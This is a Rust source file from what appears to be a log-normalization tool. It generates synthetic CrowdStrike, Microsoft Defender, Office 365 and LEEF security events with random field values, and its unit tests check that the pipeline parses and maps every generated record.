            r#"{{"event_simpleName":"ProcessRollup2","name":"ProcessRollup2V19","aid":"{}","cid":"4e7a1c0b9d2f43e8a6b5c4d3e2f1a0b9","aip":"198.51.100.{}","event_platform":"Win","id":"{}","timestamp":"{t}","ConfigBuild":"1007.3.0019507.15","ConfigStateHash":"{}","Entitlements":"15","EffectiveTransmissionClass":"3","ContextTimeStamp":"{}.{:03}","ComputerName":"{host}","RawProcessId":"{}","TargetProcessId":"{upid}","SourceProcessId":"{}","ParentProcessId":"{}","ParentBaseFileName":"{parent_name}","GrandParentBaseFileName":"explorer.exe","CommandLine":"\"{name}\" {args}","ImageFileName":"{image}","SHA256HashData":"{}","SHA1HashData":"0000000000000000000000000000000000000000","MD5HashData":"{}","UserSid":"S-1-5-21-1111111111-2222222222-3333333333-{}","UserName":"{u}","AuthenticationId":"{}","IntegrityLevel":"{il}","TokenType":"1","SessionId":"{}","ImageSubsystem":"2","ProcessSxsFlags":"1600","ProcessParameterFlags":"16385","ProcessStartTime":"{}.{:03}"}}"#,
            self.hex(32),
            self.rng.random_range(2..250),
            self.guid(),
            self.rng.random_range(1_000_000_000u64..4_294_967_295),
            t / 1000,
            t % 1000,
            self.rng.random_range(4..60_000),
            upid - self.rng.random_range(1..5_000_000),
            upid - self.rng.random_range(1..5_000_000),
            self.hex(64),
            self.hex(32),
            self.rng.random_range(1100..1200),
            self.rng.random_range(100_000..9_999_999),
            self.rng.random_range(0..4),
            start / 1000,
            start % 1000,
        );
        Generated {
            source: "crowdstrike_fdr",
            line,
        }
    }

    /// Microsoft Defender XDR advanced hunting: a DeviceProcessEvents row as Sentinel exports
    /// it (PascalCase columns, *FolderPath holding the full image path).
    fn defender_hunting(&mut self, t: i64) -> Generated {
        let host = self.host().to_lowercase();
        let (u, _) = self.user();
        let (i, j) = (
            self.rng.random_range(0..PROCS.len()),
            self.rng.random_range(0..PROCS.len()),
        );
        let (image, args, parent, parent_args) = (PROCS[i], PROC_ARGS[i], PROCS[j], PROC_ARGS[j]);
        let name = image.rsplit('\\').next().unwrap_or_default().to_string();
        let parent_name = parent.rsplit('\\').next().unwrap_or_default().to_string();
        let (image, parent) = (image.replace('\\', "\\\\"), parent.replace('\\', "\\\\"));
        let ts = |ms: i64| format!("{}0000Z", &crate::timeparse::ms_to_rfc3339(ms)[..23]);
        let parent_start = t - self.rng.random_range(60_000..7_200_000);
        let rid = self.rng.random_range(1100..1200);
        let logon = self.rng.random_range(100_000..9_999_999);
        let line = format!(
            r#"{{"TenantId":"0c4e8a21-7d3f-4b96-a1e5-2f8b6c9d0e13","Timestamp":"{}","DeviceId":"{}","DeviceName":"{host}.corp.example.com","ActionType":"ProcessCreated","FileName":"{name}","FolderPath":"{image}","SHA1":"{}","SHA256":"{}","MD5":"{}","FileSize":{},"ProcessVersionInfoCompanyName":"Microsoft Corporation","ProcessId":{},"ProcessCommandLine":"\"{name}\" {args}","ProcessIntegrityLevel":"Medium","ProcessTokenElevation":"TokenElevationTypeLimited","ProcessCreationTime":"{}","AccountDomain":"corp","AccountName":"{u}","AccountSid":"S-1-5-21-1111111111-2222222222-3333333333-{rid}","AccountUpn":"{u}@corp.example.com","LogonId":{logon},"InitiatingProcessFileName":"{parent_name}","InitiatingProcessFolderPath":"{parent}","InitiatingProcessCommandLine":"\"{parent_name}\" {parent_args}","InitiatingProcessId":{},"InitiatingProcessCreationTime":"{}","InitiatingProcessSHA1":"{}","InitiatingProcessMD5":"{}","InitiatingProcessAccountName":"{u}","InitiatingProcessAccountDomain":"corp","InitiatingProcessIntegrityLevel":"Medium","InitiatingProcessParentId":{},"InitiatingProcessParentFileName":"explorer.exe","InitiatingProcessLogonId":{logon},"ReportId":{},"TimeGenerated":"{}","Type":"DeviceProcessEvents","SourceSystem":"","MachineGroup":"Workstations"}}"#,
            ts(t),
            self.hex(40),
            self.hex(40),
            self.hex(64),
            self.hex(32),
            self.rng.random_range(20_000..2_000_000),
            self.rng.random_range(1000..60_000),
            ts(t),
            self.rng.random_range(1000..60_000),
            ts(parent_start),
            self.hex(40),
            self.hex(32),
            self.rng.random_range(500..9000),
            self.rng.random_range(1000..999_999),
            &crate::timeparse::ms_to_rfc3339(t + 2_000)[..19],
        );
        Generated {
            source: "defender_hunting",
            line,
        }
    }

    /// Microsoft Defender XDR: a Graph security API alert (alerts_v2) with device and user
    /// evidence.
    fn defender_alert(&mut self, t: i64) -> Generated {
        let host = self.host().to_lowercase();
        let (u, _) = self.user();
        let ip = self.internal_ip();
        let (title, category, technique, severity) = [
            (
                "Suspicious PowerShell command line",
                "Execution",
                r#""T1059.001""#,
                "medium",
            ),
            (
                "Suspicious access to LSASS service",
                "CredentialAccess",
                r#""T1003.001""#,
                "high",
            ),
            (
                "Possible lateral movement using remote WMI",
                "LateralMovement",
                r#""T1047","T1021""#,
                "medium",
            ),
            (
                "An active 'Emotet' malware was detected",
                "Malware",
                r#""T1204.002""#,
                "high",
            ),
            (
                "Suspicious scheduled task registration",
                "Persistence",
                r#""T1053.005""#,
                "low",
            ),
        ][self.rng.random_range(0..5)];
        let id = format!(
            "da{}_{}",
            self.rng
                .random_range(638_700_000_000_000_000u64..638_800_000_000_000_000),
            -self.rng.random_range(1_000_000_000i64..2_147_483_647)
        );
        let incident = self.rng.random_range(1000..99_999);
        let tenant = "0c4e8a21-7d3f-4b96-a1e5-2f8b6c9d0e13";
        let updated = t + self.rng.random_range(1_000..600_000);
        let first = t - self.rng.random_range(60_000..600_000);
        let last = t - self.rng.random_range(1_000..60_000);
        let line = format!(
            r##"{{"@odata.type":"#microsoft.graph.security.alert","id":"{id}","providerAlertId":"{id}","incidentId":"{incident}","status":"new","severity":"{severity}","classification":null,"determination":null,"serviceSource":"microsoftDefenderForEndpoint","detectionSource":"microsoftDefenderForEndpoint","productName":"Microsoft Defender for Endpoint","detectorId":"{}","tenantId":"{tenant}","title":"{title}","category":"{category}","assignedTo":null,"alertWebUrl":"https://security.microsoft.com/alerts/{id}?tid={tenant}","incidentWebUrl":"https://security.microsoft.com/incidents/{incident}?tid={tenant}","mitreTechniques":[{technique}],"createdDateTime":"{}","lastUpdateDateTime":"{}","firstActivityDateTime":"{}","lastActivityDateTime":"{}","evidence":[{{"@odata.type":"#microsoft.graph.security.deviceEvidence","verdict":"suspicious","remediationStatus":"none","mdeDeviceId":"{}","deviceDnsName":"{host}.corp.example.com","osPlatform":"Windows11","osBuild":22631,"healthStatus":"active","riskScore":"{severity}","rbacGroupName":"Workstations","ipInterfaces":["{ip}"]}},{{"@odata.type":"#microsoft.graph.security.userEvidence","verdict":"unknown","remediationStatus":"none","userAccount":{{"accountName":"{u}","domainName":"CORP","userSid":"S-1-5-21-1111111111-2222222222-3333333333-{}","azureAdUserId":"{}","userPrincipalName":"{u}@corp.example.com"}}}}]}}"##,
            self.guid(),
            self.iso(t),
            self.iso(updated),
            self.iso(first),
            self.iso(last),
            self.hex(40),
            self.rng.random_range(1100..1200),
            self.guid(),
        );
        Generated {
            source: "defender_alerts",
            line,
        }
    }

    /// Office 365 Management Activity API (Audit.AzureActiveDirectory): a UserLoggedIn record,
    /// now and then a UserLoginFailed one.
    fn o365(&mut self, t: i64) -> Generated {
        let (u, _) = self.user();
        let ip = self.public_ip();
        let ok = self.rng.random_bool(0.9);
        let (op, status, error, logon_error) = if ok {
            ("UserLoggedIn", "Success", "0", "")
        } else {
            (
                "UserLoginFailed",
                "Failed",
                "50126",
                r#","LogonError":"InvalidUserNameOrPassword""#,
            )
        };
        let id = self.guid();
        let user_key = self.guid();
        let (app, os, browser) = [
            ("00000002-0000-0ff1-ce00-000000000000", "Windows 10", "Edge"),
            ("00000003-0000-0ff1-ce00-000000000000", "MacOs", "Safari"),
            (
                "00000003-0000-0000-c000-000000000000",
                "Windows 10",
                "Chrome",
            ),
        ][self.rng.random_range(0..3)];
        let line = format!(
            r#"{{"CreationTime":"{}","Id":"{id}","Operation":"{op}","OrganizationId":"0c4e8a21-7d3f-4b96-a1e5-2f8b6c9d0e13","RecordType":15,"ResultStatus":"{status}","UserKey":"{user_key}","UserType":0,"Version":1,"Workload":"AzureActiveDirectory","ClientIP":"{ip}","ObjectId":"{app}","UserId":"{u}@corp.example.com","AzureActiveDirectoryEventType":1,"ExtendedProperties":[{{"Name":"ResultStatusDetail","Value":"{status}"}},{{"Name":"UserAgent","Value":"{}"}},{{"Name":"UserAuthenticationMethod","Value":"1"}},{{"Name":"RequestType","Value":"OAuth2:Authorize"}}],"ModifiedProperties":[],"Actor":[{{"ID":"{user_key}","Type":0}},{{"ID":"{u}@corp.example.com","Type":5}}],"ActorContextId":"0c4e8a21-7d3f-4b96-a1e5-2f8b6c9d0e13","ActorIpAddress":"{ip}","InterSystemsId":"{}","IntraSystemId":"{id}","Target":[{{"ID":"{app}","Type":0}}],"TargetContextId":"0c4e8a21-7d3f-4b96-a1e5-2f8b6c9d0e13","ApplicationId":"{app}","DeviceProperties":[{{"Name":"OS","Value":"{os}"}},{{"Name":"BrowserType","Value":"{browser}"}},{{"Name":"IsCompliantAndManaged","Value":"False"}},{{"Name":"SessionId","Value":"{}"}}],"ErrorNumber":"{error}"{logon_error}}}"#,
            &self.iso(t)[..19],
            UAS[self.rng.random_range(0..2)],
            self.guid(),
            self.guid(),
        );
        Generated {
            source: "o365",
            line,
        }
    }

    fn leef(&mut self, t: i64) -> Generated {
        let (src, dst) = (self.internal_ip(), self.internal_ip());
        let (u, _) = self.user();
        let line = format!(
            "LEEF:1.0|Example Security|VaultGuard|12.6|Suspicious Activity|cat=Privileged Session\tsev={}\tdevTime={t}\tsrc={src}\tdst={dst}\tusrName={u}\teventName=Unmanaged privileged access\tidentHostName=pam01.corp.example.com",
            self.rng.random_range(1..10),
        );
        Generated {
            source: "leef",
            line,
        }
    }
}

impl Iterator for Generator {
    type Item = Generated;
    fn next(&mut self) -> Option<Generated> {
        Some(self.next_record())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Config;
    use crate::decode::framing::frame_all;
    use crate::pipeline::{Outcome, Pipeline, RecordContext};
    use std::collections::BTreeMap;

    #[test]
    fn same_seed_same_corpus_and_different_seed_different() {
        let a: Vec<_> = Generator::new(7).take(500).collect();
        let b: Vec<_> = Generator::new(7).take(500).collect();
        let c: Vec<_> = Generator::new(8).take(500).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn the_corpus_is_realistic_and_every_record_maps() {
        let records: Vec<_> = Generator::new(42).take(5000).collect();
        let bytes: usize = records.iter().map(|r| r.line.len()).sum();
        let mean = bytes / records.len();
        assert!((700..1400).contains(&mean), "mean record size {mean} B");
        let mut text = String::new();
        for r in &records {
            text.push_str(&r.line);
            text.push('\n');
        }
        let mut cfg = Config::default();
        cfg.quality.reference_time = "none".into();
        let mut p = Pipeline::from_config(&cfg).unwrap();
        let mut out = Vec::new();
        for f in frame_all("gen", text.as_bytes(), p.limits()) {
            p.process_framed(f, RecordContext::default(), &mut out);
        }
        assert_eq!(out.len(), records.len());
        let mut by_source: BTreeMap<String, usize> = BTreeMap::new();
        let (mut dups, mut dead, mut base) = (0, 0, 0);
        for o in &out {
            match o {
                Outcome::Bundle { report, .. } => {
                    *by_source.entry(report.source.clone()).or_default() += 1;
                    base += (report.class_uid == 0) as usize;
                }
                Outcome::Duplicate { .. } => dups += 1,
                Outcome::DeadLetter(d) => {
                    dead += 1;
                    eprintln!("{}: {}", d.reason, d.message);
                }
            }
        }
        assert_eq!(dead, 0);
        assert_eq!(base, 0, "every generated record maps to a class");
        let dup_share = dups as f64 / records.len() as f64;
        assert!(
            (0.15..0.30).contains(&dup_share),
            "duplicate share {dup_share}"
        );
        for s in [
            "zeek",
            "suricata",
            "windows_security",
            "sysmon",
            "okta",
            "cloudtrail",
            "cef",
            "pan",
            "crowdstrike",
            "entra_id",
            "gcp_audit",
            "github_audit",
            "leef",
            "crowdstrike_fdr",
            "defender_alerts",
            "defender_hunting",
            "o365",
        ] {
            assert!(
                by_source.get(s).copied().unwrap_or(0) > 0,
                "no {s} bundle: {by_source:?}"
            );
        }
    }
}
